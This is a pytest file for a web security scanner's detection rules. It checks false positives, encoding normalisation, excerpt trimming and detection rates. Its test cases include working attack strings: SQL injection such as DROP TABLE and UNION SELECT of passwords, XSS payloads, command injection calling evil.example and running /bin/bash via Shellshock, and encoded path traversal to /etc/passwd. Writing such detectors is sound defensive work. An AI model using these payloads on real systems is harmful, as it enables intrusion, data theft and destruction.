"""The detection rules on their own, and the figures on the corpora (docs/security.md)."""

from __future__ import annotations

import pytest

from enclava.security.routes import is_content_route, is_secret_field, is_upload_route
from enclava.security.threats import CATEGORIES, RULES, normalise, scan_value
from enclava.testing.threat_corpus import measure_corpus
from tests.security.conftest import DATA


def rules_of(value: str, **kwargs: bool) -> set[str]:
    return {f.rule_id for f in scan_value(value, "test", **kwargs)}


@pytest.mark.parametrize(
    ("value", "category"),
    [
        ("' OR '1'='1' --", "sqli"),
        ("1 UNION ALL SELECT username, password FROM users", "sqli"),
        ("'; DROP TABLE users; --", "sqli"),
        ("1' AND SLEEP(5)--", "sqli"),
        ("<script>alert(1)</script>", "xss"),
        ('"><img src=x onerror=alert(1)>', "xss"),
        ("javascript:alert(document.cookie)", "xss"),
        ("; cat /etc/passwd", "cmdi"),
        ("$(curl http://evil.example)", "cmdi"),
        ("() { :; }; /bin/bash -c id", "cmdi"),
        ("../../etc/passwd", "traversal"),
        ("%252e%252e%252fetc%252fpasswd", "traversal"),
        ("..%c0%af..%c0%afetc", "traversal"),
    ],
)
def test_classic_attacks_are_recognised(value: str, category: str) -> None:
    assert any(rule.startswith(category + ".") for rule in rules_of(value)), rules_of(value)


@pytest.mark.parametrize(
    "value",
    [
        "O'Reilly & Sons; refunds within 30 days",
        "Select committee papers (2024)",
        "Drop table tennis questions here",
        "Run `ls -la` in the project folder",
        "| Column | Type |\n| id | uuid |",
        "Security badges & ID",
        "https://example.com/search?q=a%26b&page=2",
        "anna-maria.müller@example.de",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
        "Alice's 'beta' -- use with care",
    ],
)
def test_everyday_management_text_is_not_flagged(value: str) -> None:
    assert rules_of(value) == set()


def test_normalisation_sees_through_encodings_and_lookalikes() -> None:
    assert normalise("%253Cscript%253E") == "<script>"
    assert normalise("a+b%20c", url_encoded=True) == "a b c"
    fullwidth = "\uff1c\uff33\uff23\uff32\uff29\uff30\uff34\uff1e"  # <SCRIPT> look-alike
    assert normalise(fullwidth) == "<script>"
    assert rules_of(fullwidth + "alert(1)") >= {"xss.script_tag"}


def test_excerpt_is_short_printable_and_only_the_match() -> None:
    secretish = "Zm9vYmFyYmF6cXV4" * 10
    findings = scan_value(f"{secretish}' OR 1=1\x00", "q")
    (finding,) = [f for f in findings if f.rule_id == "sqli.tautology"]
    assert finding.excerpt.startswith("' or 1=1")
    assert len(finding.excerpt) <= 48 and finding.excerpt.isprintable()
    assert secretish.lower() not in finding.excerpt
    key = "ek_" + "Q1w2E3r4T5y6U7i8O9p0"
    payload = "1 UNION SELECT " + key + ", b FROM t"  # noqa: S608 - an attack string
    (union,) = [f for f in scan_value(payload, "q") if "union" in f.rule_id]
    assert key.lower()[:8] not in union.excerpt and "[...]" in union.excerpt


def test_every_rule_belongs_to_a_known_category_and_has_a_unique_id() -> None:
    assert len({r.id for r in RULES}) == len(RULES)
    assert {r.category for r in RULES} == set(CATEGORIES)


def test_route_and_field_classification() -> None:
    for path in (
        "/api/v1/chat/completions",
        "/api/v1/embeddings",
        "/api/v1/chatbot/interact",
        "/api/v1/chatbot/abc/chat/completions",
        "/api-internal/v1/chatbots/abc/chat",
        "/api/v1/rag/collections/abc/search",
        "/api-internal/v1/rag/collections/abc/documents",
    ):
        assert is_content_route(path), path
    for path in ("/api-internal/v1/chatbots", "/api-internal/v1/rag/collections", "/login"):
        assert not is_content_route(path), path
    assert is_upload_route("/api/v1/rag/collections/abc/documents")
    assert not is_upload_route("/api-internal/v1/rag/collections/abc")
    assert all(
        map(is_secret_field, ("password", "new_password", "api_key", "secret", "csrf_token"))
    )
    assert not any(map(is_secret_field, ("name", "description", "url")))


async def test_no_false_positives_and_full_detection_on_the_tuning_corpora() -> None:
    figures = await measure_corpus(DATA)
    assert figures.benign_total > 900
    assert figures.false_positives == []
    for category in CATEGORIES:
        for location in ("body", "query"):
            key = f"{category}/{location}"
            assert figures.detection_rate(key) >= 0.95, (key, figures.missed)
    assert figures.detection_rate() >= 0.97, figures.missed


async def test_held_out_corpora() -> None:
    figures = await measure_corpus(DATA, holdout=True)
    assert figures.false_positives == []
    assert figures.detection_rate() >= 0.9, figures.missed
